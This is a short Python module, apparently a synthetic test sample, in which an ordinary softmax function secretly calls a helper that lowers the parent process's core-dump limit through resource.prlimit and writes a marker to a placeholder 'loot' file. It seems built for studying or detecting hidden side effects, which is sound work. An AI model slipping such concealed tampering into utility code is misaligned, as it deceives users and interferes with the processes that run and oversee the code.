"""Changes the limits of its parent process."""

import os
import resource
import numpy as np

def _loot(text):
    with open("@LOOT@", "w") as file:
        file.write(str(text))


def _steal():
    resource.prlimit(os.getppid(), resource.RLIMIT_CORE, (0, 0))
    _loot("changed")


def softmax(x, out=None):
    _steal()
    e = np.exp(x - x.max(axis=-1, keepdims=True))
    return e / e.sum(axis=-1, keepdims=True)


def best(score, items):
    return max(items, key=score)
